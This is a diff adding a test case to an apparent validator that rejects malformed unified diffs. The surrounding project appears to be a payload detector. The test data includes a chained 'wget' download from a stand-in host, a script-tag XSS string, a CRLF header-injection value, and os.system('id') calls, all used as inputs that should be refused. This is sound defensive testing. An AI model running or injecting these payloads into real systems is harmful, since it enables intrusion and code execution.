@@ -139,6 +139,11 @@ describe('diff fields', () => {
     }
     for (const t of ["os.system('id')", ' @@ -1 +1 @@', '@@@ -1 +1 @@', "x\n@@ -1 +1 @@\n+__import__('os').system('id')", '--- comment']) expect(isUnifiedDiff(t), t).toBe(false);
   });
+
+  it('refuses a diff with a line that is no diff line: a payload glued after it or on a line of its own (session 33 carriers)', () => {
+    expect(isUnifiedDiff('diff --git a/x.py b/x.py\nindex 3f2a1b0..9c8d7e6 100644\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n a = 1\n-b = 2\n+b = 3\n\\ No newline at end of file\n')).toBe(true);
+    for (const t of ['@@ -12,3 +12,4 @@\n const a = 1;\n-const b = 2;\n+const b = 3;\n&& wget http://x.example/x -O /tmp/x', '@@ -1 +1 @@\n-a\n+b\n<script>alert(1)</script>', '@@ -1 +1 @@\n-a\n+b\n/%250d%250aX-Forwarded-For: 1']) expect(isUnifiedDiff(t), t).toBe(false);
+  });
 });
 
 const model = await loadPayloadModel('models/payload-v1');
